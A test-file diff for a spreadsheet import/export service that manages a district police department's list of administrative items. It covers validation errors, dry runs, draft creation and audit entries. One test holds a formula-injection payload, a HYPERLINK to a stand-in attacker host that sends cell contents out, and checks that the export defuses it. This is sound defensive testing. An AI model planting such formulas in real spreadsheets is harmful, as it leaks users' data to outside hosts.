@@ -1,0 +1,229 @@
+// The spreadsheet import on the real data, for an editor of 区公安分局: a broken file is reported
+// row by row and column by column and writes nothing at all; a clean one becomes the right
+// drafts with their audit entries; the department's export imports back as "unchanged".
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { importItems } from '../../server/services/import/import-items'
+import { exportDownload, importPowerItemSheet } from '../../server/services/import/spreadsheet'
+import { readSheetFile, SheetFileError } from '../../server/services/import/sheet-file'
+import { createDraft } from '../../server/services/workflow/change-requests'
+import type { AuditActor } from '../../server/services/audit'
+import { readDataFiles } from '../../scripts/lib/runtime'
+import type { SheetReport } from '../../shared/spreadsheet'
+import { createTestEnv, type TestEnv } from '../helpers/services'
+import { csvOf, HEADER, PNG, row, xlsxOf } from '../helpers/sheets'
+
+let env: TestEnv
+let editor: AuditActor & { id: number }
+let police: { id: number }
+let policeItems: { id: number; code: string; name: string; level: string }[]
+let civilItem: { code: string }
+
+const db = () => env.db.prisma
+const written = async () => ({ changeRequests: await db().changeRequest.count(), auditEntries: await db().auditEntry.count() })
+const run = (name: string, data: string | Buffer, dryRun = false) =>
+  importPowerItemSheet(db(), editor, police.id, { name, data: typeof data === 'string' ? Buffer.from(data) : data }, { dryRun })
+const where = (report: SheetReport) => report.errors.map((e) => [e.row, e.column, e.code])
+
+/** Runs an import (dry or real) and checks that it wrote nothing, not even an audit entry. */
+async function writesNothing<T>(work: () => Promise<T>): Promise<T> {
+  const before = await written()
+  const result = await work()
+  expect(await written()).toEqual(before)
+  return result
+}
+
+/** The same file as a dry run and for real: the same errors, and nothing written by either. */
+async function refusedWhole(name: string, data: string | Buffer): Promise<SheetReport> {
+  const dry = await writesNothing(() => run(name, data, true))
+  const real = await writesNothing(() => run(name, data))
+  expect(real.errors).toEqual(dry.errors)
+  expect(real.imported).toBe(false)
+  return real
+}
+
+async function fileRefusal(name: string, data: Buffer) {
+  return writesNothing(() => run(name, data).then(() => null, (e: SheetFileError) => ({ status: e.status, code: e.code, message: e.message })))
+}
+
+beforeAll(async () => {
+  env = await createTestEnv()
+  await importItems(db(), await readDataFiles())
+  police = await db().department.findUniqueOrThrow({ where: { name: '区公安分局' } })
+  const civil = await db().department.findUniqueOrThrow({ where: { name: '区民政局' } })
+  policeItems = await db().powerItem.findMany({ where: { departmentId: police.id, status: { not: 'CANCELLED' } }, orderBy: { code: 'asc' } })
+  civilItem = await db().powerItem.findFirstOrThrow({ where: { departmentId: civil.id } })
+  const user = await db().user.create({ data: { username: 'police-editor', displayName: '公安经办人', passwordHash: 'x', role: 'EDITOR', departmentId: police.id } })
+  editor = { id: user.id, name: user.displayName, role: 'EDITOR', departmentId: police.id }
+})
+afterAll(async () => { await env.close() })
+
+describe('export and import again', () => {
+  it('gives "unchanged" for every row of the department, in Excel and in CSV', async () => {
+    expect(policeItems.length).toBeGreaterThan(10)
+    for (const format of ['xlsx', 'csv'] as const) {
+      const file = (await exportDownload(db(), police.id, format))!
+      expect(file.fileName).toBe(`区公安分局-权力事项.${format}`)
+      const report = await writesNothing(() => run(file.fileName, Buffer.from(file.body)))
+      expect(report.errors).toEqual([])
+      expect(report.imported).toBe(false)
+      expect(report.counts).toEqual({ ADD: 0, UPDATE: 0, UNCHANGED: policeItems.length, SKIPPED: 0 })
+      expect(report.rows.map((r) => r.code)).toEqual(policeItems.map((i) => i.code))
+    }
+  })
+
+  it('defuses a formula in the export and reads it back as the same text', async () => {
+    const target = policeItems[0]!
+    const injection = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    await db().powerItem.update({ where: { id: target.id }, data: { contact: injection, fees: '+1 收费' } })
+    try {
+      const csv = (await exportDownload(db(), police.id, 'csv'))!
+      expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`)
+      expect(csv.body).toContain("'+1 收费")
+      const xlsx = (await exportDownload(db(), police.id, 'xlsx'))!
+      const cells = (await readSheetFile(xlsx.fileName, xlsx.body as Buffer)).find((r) => r.cells[0]!.text === target.code)!.cells
+      expect(cells[HEADER.indexOf('咨询电话')]!.text).toBe(`'${injection}`)
+      for (const file of [csv, xlsx]) {
+        const report = await writesNothing(() => run(file.fileName, Buffer.from(file.body), true))
+        expect(report.rows.find((r) => r.code === target.code)).toMatchObject({ outcome: 'UNCHANGED' })
+      }
+    } finally {
+      await db().powerItem.update({ where: { id: target.id }, data: { contact: null, fees: null } })
+    }
+  })
+
+  it('exports nothing for a department that does not exist', async () => {
+    expect(await exportDownload(db(), 999_999, 'csv')).toBeNull()
+  })
+})
+
+describe('a broken file writes nothing', () => {
+  it('reports wrong and missing columns by name before anything else', async () => {
+    const header = HEADER.map((h) => (h === '事项类型' ? '类别' : h))
+    const report = await refusedWhole('清单.csv', csvOf([header, row('bad code!'), row(civilItem.code)]))
+    expect(where(report)).toEqual([[1, '类别', 'UNKNOWN_COLUMN'], [1, '事项类型', 'MISSING_COLUMN']])
+    expect(report.rows).toEqual([])
+  })
+
+  it('names bad type names and bad codes by row and column', async () => {
+    const report = await refusedWhole('清单.xlsx', await xlsxOf([
+      HEADER,
+      row('NEW-1'),
+      row('NEW-2', { 事项类型: '行政审批' }),
+      row('NEW 3'),
+      row('新-4', { 行使层级: '区级' }),
+    ]))
+    expect(where(report)).toEqual([
+      [3, '事项类型', 'INVALID_TYPE'],
+      [4, '事项编码', 'INVALID_CODE'],
+      [5, '事项编码', 'INVALID_CODE'],
+      [5, '行使层级', 'INVALID_LEVEL'],
+    ])
+    expect(report.errors[1]!.message).toBe('第4行「事项编码」：只能包含字母、数字和连字符')
+  })
+
+  it('refuses a code repeated within the file', async () => {
+    const report = await refusedWhole('清单.csv', csvOf([HEADER, row('NEW-1'), row(policeItems[0]!.code), row('NEW-1', { 事项名称: '另一个名称' })]))
+    expect(report.errors.map((e) => e.message)).toEqual(['第4行「事项编码」：事项编码 NEW-1 与第2行重复'])
+  })
+
+  it('skips and reports empty rows, and still refuses the file for its one error', async () => {
+    const report = await refusedWhole('清单.csv', csvOf([HEADER, row('NEW-1'), [], HEADER.map(() => ''), row('NEW-2', { 事项名称: '' }), []]))
+    expect(where(report)).toEqual([[5, '事项名称', 'REQUIRED']])
+    expect(report.rows.map((r) => [r.row, r.outcome])).toEqual([[2, 'ADD'], [3, 'SKIPPED'], [4, 'SKIPPED']])
+  })
+
+  it("refuses another department's item by its code", async () => {
+    const report = await refusedWhole('清单.csv', csvOf([HEADER, row('NEW-1'), row(civilItem.code)]))
+    expect(where(report)).toEqual([[3, '事项编码', 'OTHER_DEPARTMENT']])
+    expect(report.errors[0]!.message).toBe(`第3行「事项编码」：事项编码 ${civilItem.code} 是「区民政局」的事项，不能由本部门导入`)
+  })
+
+  it('refuses an item that already has an open change, naming it', async () => {
+    const item = policeItems[1]!
+    const open = await createDraft(db(), editor, police.id, { action: 'RETAIN', entityId: item.id, payload: {} })
+    const report = await refusedWhole('清单.csv', csvOf([HEADER, row('NEW-1'), row(item.code, { 事项名称: '新的名称' })]))
+    expect(report.errors.map((e) => e.message)).toEqual([`第3行「事项编码」：事项 ${item.code} 已有未完成的变更（编号 ${open.id}），请先在工作台处理`])
+  })
+
+  it('reads a CSV with a byte order mark and names the row of its error', async () => {
+    const report = await refusedWhole('清单.csv', csvOf([HEADER, row('NEW-1'), row('NEW-2', { 事项类型: '许可' })], { bom: true }))
+    expect(where(report)).toEqual([[3, '事项类型', 'INVALID_TYPE']])
+    expect(report.rows).toMatchObject([{ row: 2, code: 'NEW-1', outcome: 'ADD' }])
+  })
+
+  it('refuses a 10 MB file and a file that is not a spreadsheet before reading a row', async () => {
+    const big = Buffer.from(csvOf([HEADER, ...Array.from({ length: 40_000 }, (_, i) => row(`BIG-${i}`, { 设定依据: '依'.repeat(80) }))]))
+    expect(big.byteLength).toBeGreaterThan(10 * 1024 * 1024)
+    expect(await fileRefusal('清单.csv', big)).toMatchObject({ status: 413, code: 'FILE_TOO_LARGE' })
+    expect(await fileRefusal('清单.xlsx', PNG)).toMatchObject({ status: 400, code: 'NOT_A_SPREADSHEET', message: '文件不是有效的 Excel（.xlsx）文件' })
+    expect(await fileRefusal('清单.csv', PNG)).toMatchObject({ status: 400, code: 'NOT_A_SPREADSHEET' })
+  })
+})
+
+describe('a clean file', () => {
+  const unchanged = () => policeItems[2]!
+  const changed = () => policeItems[3]!
+  const file = () => csvOf([
+    HEADER,
+    row('SHEET-NEW-1', { 事项名称: '犬只登记', 俗称: '养狗、办狗证', 设定依据: '《广安市养犬管理条例》', 承诺时限: '5个工作日', 收费: '不收费', 咨询电话: '0826-2222110' }),
+    [],
+    row(changed().code, { 事项名称: `${changed().name}（含补办）`, 事项类型: '行政许可', 行使层级: '县（区）级' }),
+    row('SHEET-NEW-2', { 事项类型: '公共服务' }),
+  ], { bom: true })
+
+  let exported: string
+  beforeAll(async () => {
+    // The unchanged row is the item exactly as exported.
+    const csv = (await exportDownload(db(), police.id, 'csv'))!.body as string
+    exported = csv.split('\r\n').find((line) => line.startsWith(unchanged().code))!
+  })
+
+  it('is reported by a dry run without writing anything', async () => {
+    const report = await writesNothing(() => run('清单.csv', `${file()}${exported}\r\n`, true))
+    expect(report.errors).toEqual([])
+    expect(report).toMatchObject({ dryRun: true, imported: false, counts: { ADD: 2, UPDATE: 1, UNCHANGED: 1, SKIPPED: 1 } })
+    expect(report.rows.map((r) => [r.row, r.outcome, r.code])).toEqual([
+      [2, 'ADD', 'SHEET-NEW-1'],
+      [3, 'SKIPPED', null],
+      [4, 'UPDATE', changed().code],
+      [5, 'ADD', 'SHEET-NEW-2'],
+      [6, 'UNCHANGED', unchanged().code],
+    ])
+    expect(report.rows[2]!.changed).toContain('事项名称')
+  })
+
+  it('becomes ADD and UPDATE drafts of the department, with the audit entries, in one go', async () => {
+    const before = await written()
+    const report = await run('清单.csv', `${file()}${exported}\r\n`)
+    expect(report).toMatchObject({ dryRun: false, imported: true, errors: [], counts: { ADD: 2, UPDATE: 1, UNCHANGED: 1, SKIPPED: 1 } })
+    expect(await written()).toEqual({ changeRequests: before.changeRequests + 3, auditEntries: before.auditEntries + 4 })
+
+    const ids = report.rows.map((r) => r.changeRequestId)
+    expect(ids.filter((id) => id !== null)).toHaveLength(3)
+    const drafts = await db().changeRequest.findMany({ where: { id: { in: ids.filter((id): id is number => id !== null) } }, orderBy: { id: 'asc' } })
+    expect(drafts.map((d) => [d.action, d.entityId, d.status, d.departmentId, d.authorId])).toEqual([
+      ['ADD', null, 'DRAFT', police.id, editor.id],
+      ['UPDATE', changed().id, 'DRAFT', police.id, editor.id],
+      ['ADD', null, 'DRAFT', police.id, editor.id],
+    ])
+    expect(drafts[0]!.payload).toEqual({
+      code: 'SHEET-NEW-1', name: '犬只登记', aliases: ['养狗', '办狗证'], type: 'LICENSING', groupName: null, legalBasis: '《广安市养犬管理条例》',
+      level: 'COUNTY', timeLimit: '5个工作日', fees: '不收费', contact: '0826-2222110',
+    })
+    expect(drafts[1]!.payload).toMatchObject({ name: `${changed().name}（含补办）` })
+    expect(drafts[2]!.payload).toMatchObject({ code: 'SHEET-NEW-2', type: 'PUBLIC_SERVICE' })
+
+    const audit = await db().auditEntry.findMany({ orderBy: { seq: 'desc' }, take: 4 })
+    expect(audit.map((a) => a.action).sort()).toEqual(['draft.create', 'draft.create', 'draft.create', 'draft.import'])
+    expect(audit.find((a) => a.action === 'draft.import')!.after).toMatchObject({
+      fileName: '清单.csv', departmentId: police.id, counts: { ADD: 2, UPDATE: 1, UNCHANGED: 1, SKIPPED: 1 }, changeRequestIds: drafts.map((d) => d.id),
+    })
+    // The published item is untouched until the reform office decides.
+    expect((await db().powerItem.findUniqueOrThrow({ where: { id: changed().id } })).name).toBe(changed().name)
+  })
+
+  it('is refused whole the second time: the items now have open changes and the new codes are proposed', async () => {
+    const report = await refusedWhole('清单.csv', `${file()}${exported}\r\n`)
+    expect(where(report)).toEqual([[2, '事项编码', 'CODE_PROPOSED'], [4, '事项编码', 'OPEN_CHANGE'], [5, '事项编码', 'CODE_PROPOSED']])
+  })
+})
